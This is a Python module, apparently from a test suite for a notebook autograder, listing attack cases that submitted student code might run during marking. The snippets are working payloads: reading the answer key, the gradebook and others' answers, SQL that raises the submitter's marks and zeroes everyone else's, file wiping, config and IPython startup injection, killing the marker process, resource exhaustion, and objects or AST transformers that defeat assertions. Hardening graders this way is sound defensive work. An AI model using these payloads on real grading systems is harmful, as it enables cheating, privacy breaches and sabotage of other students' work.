"""Attacks by code that marking would run: on the course's files, on the marking itself, on the tests."""

from __future__ import annotations

from hostile.attack import ALIVE, Attack
from hostile.handing_in import code

ROOT = "import os, sqlite3, sys, glob, pathlib\nroot = pathlib.Path.cwd().parents[2]\n"
SQL = f"{ROOT}db = sqlite3.connect(root / 'gradebook.db', timeout=5)\n"
OWN = (
    "where notebook_id in (select n.id from submitted_notebook n join submitted_assignment s on s.id = n.assignment_id "
)
GIVES = (
    f"{SQL}db.execute(\"update grade set manual_score = {{}} {OWN}where s.student_id {{}} 'STUDENT')\")\ndb.commit()"  # noqa: S608
)
ALWAYS = """\
class Yes(dict):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = None
answers = type('All', (dict,), {'get': lambda self, *_: Yes(), '__getitem__': lambda self, _: Yes()})()"""
NO_ASSERTS = """\
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Drop())
answers = {}"""
STARTUP = f"""{ROOT}
folder = root / 'home' / '.ipython' / 'profile_default' / 'startup'
folder.mkdir(parents=True, exist_ok=True)
(folder / 'x.py').write_text('import ast\\nclass Off(ast.NodeTransformer):\\n    def visit_Assert(self, node): return '
    'ast.parse("1/0").body[0]\\nget_ipython().ast_transformers.append(Off())')"""
# It kills the process that marks this very course and no other, whoever its parent may be.
KILL = f"""{ROOT}import signal
parent = os.getppid()
if f'HOME={{root}}/home' in open(f'/proc/{{parent}}/environ').read().split(chr(0)): os.kill(parent, signal.SIGKILL)"""
RUNS_CODE = (
    Attack(
        "reads-tests",
        "code prints the notebook with the key from source/",
        code(f"{ROOT}print(open(root / 'source' / 'mixed' / 'mixed.ipynb').read())"),
    ),
    Attack(
        "reads-gradebook", "code prints gradebook.db", code(f"{ROOT}print(open(root / 'gradebook.db', 'rb').read())")
    ),
    Attack(
        "reads-others",
        "code prints another's answers",
        code(f"{ROOT}print(open(root / 'submitted' / 'a-honest' / 'mixed' / 'mixed.ipynb').read())"),
    ),
    Attack(
        "own-mark",
        "code gives itself marks by hand in the gradebook",
        code(GIVES.format(5, "=")),
    ),
    Attack(
        "others-marks",
        "code sets everybody else's marks to zero",
        code(GIVES.format(0, "<>")),
    ),
    Attack("no-gradebook", "code empties gradebook.db", code(f"{ROOT}open(root / 'gradebook.db', 'w').close()")),
    Attack(
        "others-files",
        "code empties the notebook of who comes next",
        code(f"{ROOT}(root / 'submitted' / 'z-honest' / 'mixed' / 'mixed.ipynb').write_text('')"),
    ),
    Attack(
        "config",
        "code adds to nbgrader_config.py, which the next command runs",
        code(f"{ROOT}open(root / 'nbgrader_config.py', 'a').write('\\n# more code')"),
    ),
    Attack("startup", "code puts a start-up file where the next kernels run it", code(STARTUP)),
    Attack("exit", "code ends its kernel: os._exit", code("import os\nos._exit(0)")),
    Attack(
        "kills-marker",
        "code kills the marking process",
        code(KILL),
    ),
    Attack(
        "endless",
        "a loop without end that no interrupt ends",
        code("while True:\n    try:\n        while True: pass\n    except KeyboardInterrupt: pass"),
    ),
    Attack("memory", "code takes 2 GB", code("big = b'x' * 2_000_000_000")),
    Attack("flood", "code prints a line of 20 MB", code("print('x' * 20_000_000)")),
    Attack(
        "alive",
        "code leaves a process behind",
        code(
            "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(50)', "
            f"'{ALIVE}-STUDENT'], start_new_session=True)"
        ),
    ),
    Attack("equals-all", "answers that equal everything", code(ALWAYS)),
    Attack("no-asserts", "a transformer that takes assertions out of the tests", code(NO_ASSERTS)),
)
